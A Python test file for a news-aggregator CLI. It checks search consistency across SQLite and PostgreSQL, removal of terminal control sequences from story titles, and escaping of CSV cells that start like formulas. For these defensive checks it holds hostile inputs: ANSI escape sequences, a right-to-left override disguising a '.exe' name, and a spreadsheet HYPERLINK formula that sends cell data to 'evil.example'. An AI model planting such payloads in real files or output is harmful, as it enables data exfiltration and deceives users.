"""``aggregator stories`` as a demanding user sees it: full-text search that means the same
on SQLite and PostgreSQL, a table that never passes a story's control characters to the
terminal, and CSV whose cells a spreadsheet will not run as formulas."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from clirun import in_process
from dbfixtures import fresh_pg_url
from readonly import BACKENDS, refuse_writes
from test_learning_cli import env, run  # noqa: F401  (env: fixture)
from test_store import check

from aggregator.app import App, make_app
from aggregator.config import Settings
from aggregator.types import (
    FeedSource,
    Prediction,
    StoryDraft,
    StoryRecord,
    TopicScore,
)

NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)


def seed(data_dir: Path, url: str | None, titles: list[tuple[str, str]]) -> None:
    """``(title, summary)`` stories of one feed, saved through the real store."""
    s = Settings.from_env({}, data_dir=data_dir, database_url=url)
    data_dir.mkdir(parents=True, exist_ok=True)
    with make_app(s, now=lambda: NOW) as app:
        feed, _ = app.store.add_feed(FeedSource(url="https://a.example/feed", name="A"), NOW)
        recs = [
            StoryRecord(
                draft=StoryDraft(
                    key=f"k{i}",
                    guid=f"k{i}",
                    link=f"https://a.example/{i}",
                    canonical_url=None,
                    title=title,
                    author=None,
                    published=datetime(2026, 11, 1 + i, 9, tzinfo=UTC),
                    updated=None,
                    summary=f"<p>{summary}</p>",
                    content=None,
                    categories=(),
                    content_hash=f"h{i}",
                ),
                prediction=Prediction(
                    topics=(TopicScore(topic="DNS", score=0.9),), model_version="t"
                ),
            )
            for i, (title, summary) in enumerate(titles)
        ]
        app.store.save_update(check(feed.id, at=NOW), recs)


# --- full-text search: one meaning on both backends -------------------------------------------

SEARCHABLE = [
    ("Root zone KSK rollover", "Resolvers must update their trust anchors"),
    ("Registrar fined over WHOIS accuracy", "The registrar disputes the fine"),
    ("C++ resolver library released", "Supports example.com style zones"),
    ("Domain prices rise", "Registries blame inflation; rollovers delayed"),
    ("Göran Marby leaves ICANN", "Telefónica and São Paulo operators react"),
    ("WHO warns of pandemic-themed phishing", "It says the lures use its logo"),
]


@pytest.fixture(scope="module", params=BACKENDS)
def searchable_app(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[App]:
    """An App on ``SEARCHABLE`` seeded once per database for the 18 searches, which only
    read it (each seeded a database of its own and opened two Apps on it); its store
    refuses writes from then on (readonly.py)."""
    data = tmp_path_factory.mktemp("searchable") / "data"
    with contextlib.ExitStack() as stack:
        if request.param == "sqlite":
            url = f"sqlite:///{(data / 'aggregator.db').as_posix()}"
        else:
            url = stack.enter_context(fresh_pg_url(request.getfixturevalue("_pg_databases")))
        seed(data, url, SEARCHABLE)
        s = Settings.from_env({}, data_dir=data, database_url=url)
        app = stack.enter_context(make_app(s, now=lambda: NOW))
        refuse_writes(app.store.engine)
        yield app


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("ksk", ["Root zone KSK rollover"]),
        ("rollov*", ["Domain prices rise", "Root zone KSK rollover"]),  # a prefix, as typed
        ("regist*", ["Domain prices rise", "Registrar fined over WHOIS accuracy"]),
        ("ksk OR whois", ["Registrar fined over WHOIS accuracy", "Root zone KSK rollover"]),
        ("whois OR ksk zone", ["Registrar fined over WHOIS accuracy", "Root zone KSK rollover"]),
        ('"trust anchors"', ["Root zone KSK rollover"]),
        ('"anchors trust"', []),
        ("-fined registrar", ["Registrar fined over WHOIS accuracy"]),  # '-' is not syntax
        ("example.com", ["C++ resolver library released"]),
        ("C++", ["C++ resolver library released"]),
        ('"unbalanced', []),
        ("goran", ["Göran Marby leaves ICANN"]),
        ("Göran marby", ["Göran Marby leaves ICANN"]),
        ("telefonica OR paulo", ["Göran Marby leaves ICANN"]),
        ("telefó*", ["Göran Marby leaves ICANN"]),
        ("who", ["WHO warns of pandemic-themed phishing"]),
        ('"says the lures"', ["WHO warns of pandemic-themed phishing"]),
        ("it", ["WHO warns of pandemic-themed phishing"]),
    ],
    ids=[
        "word",
        "prefix",
        "prefix-stem",
        "or",
        "or-binds-looser-than-and",
        "phrase",
        "phrase-order",
        "leading-dash",
        "domain",
        "punctuation",
        "unbalanced-quote",
        "diacritics-folded",
        "diacritics-typed",
        "diacritics-or",
        "diacritics-prefix",
        "stop-word",
        "phrase-with-stop-word",
        "stop-word-it",
    ],
)
def test_search_means_the_same_on_both_backends(
    searchable_app: App, typed: str, expected: list[str]
) -> None:
    from aggregator.types import StoryQuery

    found = sorted(x.title for x in searchable_app.stories(StoryQuery(text=typed, limit=None)))
    assert found == expected


@pytest.mark.parametrize("typed", ["*", '"', '""', "OR", " * OR * "])
def test_search_without_words_is_bad_input(
    env: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    typed: str,
) -> None:
    seed(env / "data", None, SEARCHABLE)
    code, out, err = run(capsys, "stories", "-q", typed)
    assert code == 2
    assert out == ""
    assert err == f"error: search {typed!r} has no words to look for\n"


# --- the table: story text never reaches the terminal as control sequences --------------------

HOSTILE = [
    ("Title \x1b]0;owned\x07with \x1b[2Jescapes\x1b[31m red", "x"),
    ("Overridden \u202etxt.exe\u202c order", "y"),
    ("Carriage\rreturn and\x08 backspace\x9b31m", "z"),
    ("שלום עולם 🎉 " + "long " * 30, "w"),
]


@pytest.mark.parametrize("columns", [60, 80, 120])
def test_table_strips_control_characters_of_stories(
    tmp_path: Path,
    columns: int,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """The CLI's main as ``python -m aggregator`` runs it, in this process (tests/clirun.py),
    its stdout a pipe to a terminal ``columns`` wide."""
    seed(tmp_path / "data", None, HOSTILE)
    done = in_process(monkeypatch, capfd)(
        {**os.environ, "COLUMNS": str(columns), "TERM": "dumb", "NO_COLOR": "1"},
        *("--data-dir", str(tmp_path / "data"), "stories"),
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    for bad in ("\x1b", "\x07", "\x08", "\r", "\x9b", "\u202e", "\u202c"):
        assert bad not in done.stdout, (bad, done.stdout)
    words = " ".join(done.stdout.replace("│", " ").split())
    for kept in ("escapes red", "txt.exe", "backspace", "שלום", "🎉"):
        assert kept in words
    assert "Carriage return" in words  # a line break in a title is a space


# --- CSV: cells a spreadsheet would run as formulas ----------------------------------------


def test_csv_does_not_start_a_text_cell_with_a_formula(
    env: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1 for DNSSEC",
        "-5% in IPv4 prices",
        "@SUM(1)",
        "\t=tab first",
        "Plain title, with a comma\nand a second line",
    ]
    seed(env / "data", None, [(t, "x") for t in titles])
    code, out, err = run(capsys, "stories", "--format", "csv")
    assert (code, err) == (0, "")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert sorted(r["title"] for r in rows) == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
            "'+1 for DNSSEC",
            "'-5% in IPv4 prices",
            "'@SUM(1)",
            "'\t=tab first",
            "Plain title, with a comma\nand a second line",
        ]
    )
    assert {r["feed"] for r in rows} == {"https://a.example/feed"}
    # JSON is for scripts and keeps every title exactly as stored.
    code, out, _ = run(capsys, "stories", "--format", "json")
    assert sorted(s["title"] for s in json.loads(out)) == sorted(titles)
